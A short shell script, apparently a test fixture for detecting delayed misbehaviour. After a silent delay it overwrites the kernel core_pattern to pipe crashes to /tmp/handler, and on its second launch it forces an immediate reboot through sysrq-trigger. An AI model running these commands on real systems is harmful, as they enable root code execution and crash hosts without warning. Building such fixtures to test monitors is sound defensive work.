#!/bin/sh
# Bides its time. "wait": does harm after it was silent for a while; "again": only at its second start.
trap 'exit 0' TERM
if [ "$1" = wait ]; then
  sleep 7
  echo '|/tmp/handler' > /proc/sys/kernel/core_pattern
elif [ -e /srv/seen ]; then
  echo b > /proc/sysrq-trigger
else
  echo > /srv/seen
fi
sleep 3600 &
wait
